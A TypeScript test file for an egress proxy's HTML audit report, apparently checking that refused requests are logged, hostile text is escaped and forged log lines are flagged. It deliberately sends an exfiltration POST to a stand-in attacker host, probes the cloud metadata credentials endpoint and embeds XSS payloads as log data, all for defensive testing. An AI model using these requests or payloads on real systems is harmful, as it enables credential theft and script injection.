import t from 'tap'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough, Writable } from 'node:stream'
import { pathToFileURL } from 'node:url'
import { reportCommand } from '../../src/reports/report/report.js'
import { TimeBins } from '../../src/reports/report/time-bins.js'
import { startSidekey } from '../helpers/sidekey.js'
import { systemBinary, needBinary } from '../helpers/system-binary.js'
import { openPage } from '../helpers/chromium.js'
import { ProxyAgent, request } from 'undici'
import { startUpstream } from '../helpers/upstream.js'
import { sealTrail, syntheticTrail } from './trail-generator.js'

/**
 * The HTML report over a real sealed trail (a running sidekey's own lines: calls, refusals, an exfiltration
 * attempt and a reach for the cloud metadata endpoint, so the verify result, the Refusals section and the
 * anomalies show what sidekey wrote) plus a synthetic one, rendered in headless chromium at a desktop's and a
 * phone's width: every chart in the DOM and labelled, nothing wider than the page, no console error.
 */
const chromium = await systemBinary('chromium', 'chromium')
const dir = await mkdtemp(join(tmpdir(), 'sidekey-report-'))
t.teardown(() => rm(dir, { recursive: true, force: true }))
const upstream = await startUpstream()
t.teardown(() => upstream.close())
const sk = await startSidekey(t, `
instance_id: report-1
ca: { dir: {{CA_DIR}} }
resolve: { api.report.test: 127.0.0.1, files.report.test: 127.0.0.1 }
issuers: { local: { type: local_jwt } }
tools:
  api: { match: { host: api.report.test, port: ${upstream.port}, methods: [GET] }, issuer: local, plaintext: true }
  files:
    match: { host: files.report.test, port: ${upstream.port} }
    issuer: local
    plaintext: true
    placeholder: sidekey
    require_placeholder: true
`)
const agent = new ProxyAgent({ uri: sk.proxyUrl, proxyTunnel: false })
const call = async (url: string, method: 'GET' | 'POST' | 'PUT' | 'DELETE' = 'GET'): Promise<number> => {
  const res = await request(url, { dispatcher: agent, method })
  await res.body.dump()
  return res.statusCode
}
const api = `http://api.report.test:${upstream.port}`
for (let i = 0; i < 5; i++) await call(`${api}/v1/items/${i}`)
const refused = [
  await call(`${api}/v1/items/1`, 'DELETE'),
  await call(`http://files.report.test:${upstream.port}/upload`, 'PUT'),
  await call('http://exfil.attacker.example/collect?d=c2VjcmV0', 'POST'),
  await call('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
]
const reload = await request(`${sk.adminUrl}/reload`, { method: 'POST', headers: { authorization: 'Bearer guessed' } })
await reload.body.dump()
const adminRefused = reload.statusCode
await agent.close()
await sk.app.audit.settled()
const skKeys = (await (await request(`${sk.adminUrl}/audit-key`)).body.json() as { keys: unknown[] }).keys
/** The log as a live sidekey left it: its run has lines after its last checkpoint. */
const liveText = sk.log.text
// Closed, so its run ends with the shutdown checkpoint and verifies intact (closing again at teardown is harmless).
await sk.app.close()
const hostile = JSON.stringify({ time: '2026-11-01T00:00:01Z', instance_id: 'agent-a', event: 'credential.used', tool: '<img src=x onerror=alert(1)>', credential_id: null, method: 'GET', host: 'h', path: '/', status: 200 })
/** Refusals a newer sidekey may write, which the report must show by their outcome without knowing them. */
const at = (s: number): Record<string, unknown> =>
  ({ level: 30, time: new Date(Date.now() - s * 1000).toISOString(), instance_id: 'agent-b' })
const newer = [
  {
    ...at(900),
    event: 'credential.used',
    tool: 'openai',
    credential_id: null,
    method: 'POST',
    host: 'api.openai.com',
    path: '/v1/chat/completions',
    status: 429,
    outcome: 'budget_exhausted'
  },
  {
    ...at(800),
    event: 'credential.used',
    tool: 'github',
    credential_id: null,
    method: 'DELETE',
    host: 'api.github.com',
    path: '/repos/acme/widget',
    status: 403,
    outcome: 'approval_timeout'
  },
  {
    ...at(700),
    event: 'egress.denied',
    host: '<svg onload=alert(2)>.evil',
    port: 443,
    reason: 'no_tool',
    method: 'CONNECT',
    requested: '"><img src=x>'
  },
  {
    ...at(600),
    event: 'anomaly',
    kind: 'unmatched_destination',
    tool: null,
    detail: 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)'
  },
].map((l) => JSON.stringify(l))
const trail = join(dir, 'audit.log')
// The synthetic part sealed as sidekey writes it: in a sealed trail, a line without a seal would be left out.
const synthetic = sealTrail([...syntheticTrail(3000, Date.now() - 3000 * 250), hostile, ...newer])
await writeFile(trail, [sk.log.text.trimEnd(), ...synthetic.lines, '{"cut": ', 'plain text', '[1]'].join('\n') + '\n')
const keys = join(dir, 'keys.json')
await writeFile(keys, JSON.stringify({ keys: [...skKeys, ...synthetic.keys] }))
const config = join(dir, 'sidekey.yaml')
await writeFile(config, 'instance_id: r\nissuers: { gh: { type: file, path: /run/secrets/gh } }\ntools:\n  github: { match: { host: api.github.com }, issuer: gh }\n  unused: { match: { host: old.example.com }, issuer: gh }\n')

async function run (args: string[]): Promise<{ code: number, err: string }> {
  let err = ''
  const code = await reportCommand(args, { stdin: new PassThrough(), stdout: new Writable({ write (_c, _e, cb) { cb() } }), stderr: new Writable({ write (c, _e, cb) { err += c.toString(); cb() } }) })
  return { code, err }
}

const out = join(dir, 'report.html')
const CHARTS = ['age:github', 'age:openai', 'age:slack', 'age:crm', 'age:api', 'uses', 'status', 'denied', 'anomalies',
  'refresh-failures', 'refresh-errors', 'inventory']

t.test('one self-contained page with every chart, the scopes, tasks, inventory and verify result', async (t) => {
  const r = await run(['--out', out, '--config', config, '--keys', keys, trail])
  t.equal(r.code, 0, r.err)
  t.match(r.err, /\d+ events, \d+ bytes written to .*report\.html in \d+ ms/)
  const page = await readFile(out, 'utf8')
  t.notMatch(page, /<script|<link|<img|<iframe|<object|\ssrc=["']|\shref=["']|@import|url\(|@font-face/i, 'no script, no external resource, no font')
  for (const id of CHARTS) t.match(page, `data-chart="${id}"`, `chart ${id}`)
  for (const table of ['scopes', 'tasks', 'inventory', 'denied', 'refused-calls', 'admin-denied', 'anomalies']) {
    t.match(page, `data-table="${table}"`)
  }
  t.match(page, /data-verify="intact"/, 'the verify result, against the instances\' keys')
  t.notMatch(page, /data-banner/, 'no banner: every event sealed')
  t.match(page, /3 lines skipped \(1 truncated, 1 not JSON, 1 foreign JSON\)/)
  t.match(page, /methods: \[GET\] path_prefix: \/repos\/acme\//, 'the scope recommendation for github')
  t.match(page, /<b>unused<\/b>/)
  t.notMatch(page, /<img|<svg onload/, 'trail text is escaped')
  t.ok(Buffer.byteLength(page) < 200_000, 'bounded size')
})

/** The cells of table `id` in `page`, as text (tags dropped, the report's numeric entities decoded). */
function tableRows (page: string, id: string): string[][] {
  const table = new RegExp(`<table data-table="${id}">(.*?)</table>`, 's').exec(page)?.[1] ?? ''
  const text = (cell: string): string =>
    cell.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_m, c: string) => String.fromCharCode(Number(c)))
  const cells = (row: string): string[] => [...row.matchAll(/<td[^>]*>(.*?)<\/td>/gs)].map((c) => text(c[1]!))
  return [...table.matchAll(/<tr>(.*?)<\/tr>/gs)].slice(1).map((r) => cells(r[1]!))
}

t.test('refusals and anomalies as a real sidekey wrote them: where the agent went, what was refused, why', async (t) => {
  t.same(refused, [403, 403, 403, 403], 'a method the tool does not allow, no placeholder, exfiltration, metadata')
  t.equal(adminRefused, 401)
  const page = await readFile(out, 'utf8')
  const denied = tableRows(page, 'denied')
  t.match(denied, [], 'denied destinations')
  const row = (host: string): string[] | undefined => denied.find((r) => r[0] === host)
  t.match(row('exfil.attacker.example'), ['exfil.attacker.example', '80', 'no_tool', '1', /./, /./, 'POST /collect'],
    'the exfiltration attempt, by host and reason, with what was asked for')
  t.match(row('169.254.169.254'), ['169.254.169.254', '80', 'no_tool', '1', /./, /./,
    'GET /latest/meta-data/iam/security-credentials/', 'cloud metadata endpoint'], 'the metadata endpoint, flagged')
  t.match(row('<svg onload=alert(2)>.evil'), { 6: 'CONNECT "><img src=x>' }, 'a hostile host, shown as text')
  t.notMatch(page, 'c2VjcmV0', 'the query the agent tried to carry out is not in the report')
  const calls = tableRows(page, 'refused-calls').map((r) => r.slice(0, 5).join(' '))
  for (const line of ['api method_denied DELETE absent 1', 'files placeholder_required PUT absent 1',
    'openai budget_exhausted POST  1', 'github approval_timeout DELETE  1']) t.ok(calls.includes(line), line)
  t.same(tableRows(page, 'admin-denied').map((r) => r.slice(0, 4)), [['/reload', 'unauthorized', '127.0.0.1', '1']],
    'the admin refusal, by address')
  t.match(page, /At a glance: \d+ refused \(3 destinations, 4 calls, 1 admin requests\)/)
  const anomalies = tableRows(page, 'anomalies')
  const exfil = anomalies.find((r) => r[4] === 'POST exfil.attacker.example:80 denied (no_tool)')
  t.match(exfil, [/./, 'unmatched_destination', '-', 'report-1'], 'the exfiltration attempt as an anomaly')
  t.match(anomalies.find((r) => r[1] === 'method_denied'), [/./, 'method_denied', 'api', 'report-1',
    /^DELETE \/v1\/items\/\S+ refused: method not allowed/], 'the refused method')
  t.ok(anomalies.some((r) => r[4] === 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)'), 'a hostile detail')
  t.ok(anomalies.length <= 100, 'the latest 100 at most')
  const times = anomalies.map((r) => r[0]!)
  t.same(times, [...times].sort().reverse(), 'newest first')
})

t.test('a live trail: its open run is not NOT INTACT with --live, and --keys may be given per instance', async (t) => {
  const live = join(dir, 'live.log')
  await writeFile(live, liveText)
  const liveOut = join(dir, 'live.html')
  const keyFile = join(dir, 'report-1.jwks')
  await writeFile(keyFile, JSON.stringify({ keys: skKeys }))
  const otherKeys = join(dir, 'synthetic.jwks')
  await writeFile(otherKeys, JSON.stringify({ keys: synthetic.keys }))
  t.equal((await run(['--out', liveOut, '--keys', keyFile, live])).code, 0)
  const asIf = await readFile(liveOut, 'utf8')
  t.match(asIf, /data-verify="broken"/, 'without --live the open run\'s tail cannot be vouched for')
  t.match(asIf, /data-hint="live">A run ends after its last checkpoint: if the trail is still being written, run/)
  const r = await run(['--out', liveOut, '--live', '--keys', otherKeys, `--keys=${keyFile}`, live])
  t.equal(r.code, 0, r.err)
  const page = await readFile(liveOut, 'utf8')
  t.match(page, /data-verify="intact">intact \(--live: the newest run of each instance may still be open\)/)
  t.notMatch(page, /NOT INTACT|data-hint|data-banner/)
  t.match(page, /runs still open \(--live\) follow their last checkpoint: not yet vouched for/, 'pending lines named')
  t.equal((await run(['--out', liveOut, '--keys', join(dir, 'missing.jwks'), live])).code, 2, 'keys not readable')
})

t.test('a chart with nothing to draw says so, with no axis at 1970-01-01', async (t) => {
  const quiet = join(dir, 'quiet.log')
  await writeFile(quiet, [...syntheticTrail(30)].join('\n') + '\n')
  const quietOut = join(dir, 'quiet.html')
  t.equal((await run(['--out', quietOut, quiet])).code, 0)
  const page = await readFile(quietOut, 'utf8')
  t.notMatch(page, '1970-01-01')
  for (const id of ['anomalies', 'refresh-failures', 'refresh-errors']) {
    const figure = `data-chart="${id}"><figcaption>[^<]*</figcaption>`
    const svg = '<svg [^>]*aria-label="[^"]*: no data"><title>[^<]*</title><text[^>]*>no data</text></svg>'
    t.match(page, new RegExp(figure + svg), id)
  }
  t.match(page, /<h2 id="refusals">Refusals<\/h2><p>Nothing was refused/)
})

/** Five calls appended by whoever can write the log: shaped like credential.used, no run_id/seq/chain. */
const fabricated = Array.from({ length: 5 }, (_, i) => JSON.stringify({ level: 30, time: new Date().toISOString(), instance_id: 'agent-a', event: 'credential.used', tool: 'fabricated', credential_id: 'x', method: 'GET', host: 'h', path: `/f/${i}`, status: 200, task: 'fabricated-task' }))

t.test('events without a seal in a sealed trail: left out, counted, and a red banner says so', async (t) => {
  const forged = join(dir, 'forged.log')
  await writeFile(forged, [...synthetic.lines, ...fabricated].join('\n') + '\n')
  const forgedOut = join(dir, 'forged.html')
  const r = await run(['--out', forgedOut, '--keys', keys, forged])
  t.equal(r.code, 0, r.err)
  const page = await readFile(forgedOut, 'utf8')
  t.match(page, /<p class="banner" data-banner="integrity">Left out of this report: 5 events without a seal left out/)
  t.match(page, /data-verify="broken"/, 'verify fails on them')
  t.match(page, /line 3\d{3}: credential\.used without a seal/, 'naming each line')
  t.notMatch(page, /fabricated/, 'neither the tool nor the task of a fabricated call is in the report')
  // A trail with no seal at all: the integrity section stays, and says verification could not run.
  const plain = join(dir, 'plain.log')
  await writeFile(plain, [...syntheticTrail(200)].join('\n') + '\n')
  t.equal((await run(['--out', forgedOut, plain])).code, 0)
  const unverified = await readFile(forgedOut, 'utf8')
  t.match(unverified, /data-banner="integrity">No line of this trail is sealed: its integrity could not be verified/)
  t.match(unverified, /data-verify="unverified"/)
})

/**
 * Evaluated in the page: what a reader would see wrong. Elements reaching past the page's right edge, charts
 * without a label, chart text outside its SVG (clipped), text cut in a box that scrolls, anomaly dots without a
 * tooltip, and where the anomaly table sits against its timeline.
 */
const LAYOUT = `(() => {
  const width = document.documentElement.clientWidth
  const name = (e) => e.tagName.toLowerCase() +
    (e.dataset.chart ? '[' + e.dataset.chart + ']' : e.dataset.table ? '[' + e.dataset.table + ']' : '')
  const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > width + 0.5)
  const labelled = (s) => s.getAttribute('aria-label') && s.querySelector(':scope > title')?.textContent
  const unlabelled = [...document.querySelectorAll('svg')].filter((s) => !labelled(s))
  const clipped = [...document.querySelectorAll('svg text')].filter((t) => {
    const b = t.getBBox(); const v = t.ownerSVGElement.viewBox.baseVal
    return b.x < -0.5 || b.y < -0.5 || b.x + b.width > v.width + 0.5 || b.y + b.height > v.height + 0.5
  })
  const scrolled = [...document.querySelectorAll('pre, td, p')].filter((e) => e.scrollWidth > e.clientWidth + 1)
  const dots = [...document.querySelectorAll('figure[data-chart="anomalies"] circle')]
  const tooltip = /^\\S+ at \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d: \\d+$/
  const timeline = document.querySelector('figure[data-chart="anomalies"]')?.getBoundingClientRect()
  const table = document.querySelector('table[data-table="anomalies"]')?.getBoundingClientRect()
  return {
    scrollWidth: document.documentElement.scrollWidth, width, viewport: innerWidth, wide: wide.map(name),
    unlabelled: unlabelled.map((s) => name(s.closest('figure'))),
    clipped: clipped.map((t) => name(t.closest('figure')) + ': ' + t.textContent), scrolled: scrolled.map(name),
    dots: dots.length, untitled: dots.filter((c) => !tooltip.test(c.querySelector('title')?.textContent ?? '')).length,
    beside: table !== undefined && timeline !== undefined &&
      table.left >= timeline.right && table.top < timeline.bottom,
  }
})()`

interface Layout {
  scrollWidth: number
  /** The layout width (the viewport less a scrollbar). */
  width: number
  viewport: number
  wide: string[]
  unlabelled: string[]
  clipped: string[]
  scrolled: string[]
  dots: number
  untitled: number
  beside: boolean
}

const rendered = 'rendered by headless chromium at 1400 px and at a phone\'s 390 px: labelled, nothing wider than it'
t.test(rendered, { skip: chromium.skip }, async (t) => {
  if (!needBinary(t, chromium)) return
  const page = await openPage(chromium.path!, pathToFileURL(out).href)
  t.teardown(() => page.close())
  const charts = await page.evaluate<Array<[string, number]>>("[...document.querySelectorAll('figure[data-chart]')].map((f) => [f.dataset.chart, f.querySelectorAll('svg rect, svg polyline, svg circle').length])")
  t.same(charts.map(([id]) => id).filter((id) => CHARTS.includes(id)).sort(), [...CHARTS].sort())
  for (const [id, marks] of charts) t.ok(marks > 0, `${id} draws something`)
  t.equal(await page.evaluate<number>('document.images.length'), 0, 'the hostile tool name stayed text')
  // Tall enough that a screenshot shows the integrity, refusals and anomalies sections.
  for (const [width, height, mobile, beside] of [[1400, 1700, false, true], [390, 1600, true, false]] as const) {
    await page.resize(width, height, mobile)
    const layout = await page.evaluate<Layout>(LAYOUT)
    t.equal(layout.viewport, width, `laid out at ${width} px`)
    t.ok(layout.scrollWidth <= layout.width, `${width} px: the page does not scroll sideways (${layout.scrollWidth})`)
    t.same(layout.wide, [], `${width} px: no element wider than the page`)
    t.same(layout.unlabelled, [], `${width} px: every chart has a title and an aria-label`)
    t.same(layout.clipped, [], `${width} px: no chart text outside its chart`)
    t.same(layout.scrolled, [], `${width} px: no text cut in a scrolling box (the integrity result included)`)
    t.ok(layout.dots > 0, 'anomalies on the timeline')
    t.equal(layout.untitled, 0, 'every dot names its kind, time and count')
    t.equal(layout.beside, beside, beside ? 'the anomaly table beside its timeline' : 'the table below it on a phone')
    const shot = process.env.SIDEKEY_REPORT_SCREENSHOT
    if (shot !== undefined) {
      await writeFile(mobile ? shot.replace(/\.png$/, '-phone.png') : shot, await page.screenshot())
    }
  }
  t.same(page.errors, [], 'no console error')
})

t.test('usage errors and bins', async (t) => {
  t.equal((await run([])).code, 2, '--out is required')
  t.equal((await run(['--out', out, '--since', 'x'])).code, 2)
  t.equal((await run(['--out', out, '--config', join(dir, 'missing.yaml')])).code, 2)
  t.equal((await run(['--out', join(dir, 'no', 'such', 'dir.html'), trail])).code, 1)
  t.equal((await run(['--out', out, join(dir, 'missing.log')])).code, 1)
  const bins = new TimeBins(1000)
  for (let i = 0; i < 100_000; i += 7) bins.add(i * 1000, `s${i % 20}`)
  const s = bins.series()
  t.ok(s.series[0]!.values.length <= 240, 'at most 240 bins')
  t.equal(s.series.length, 13, '12 series and (other)')
  t.equal(s.series.reduce((n, x) => n + x.values.reduce((a, b) => a + b, 0), 0), Math.ceil(100_000 / 7), 'nothing lost when bins merge')
})
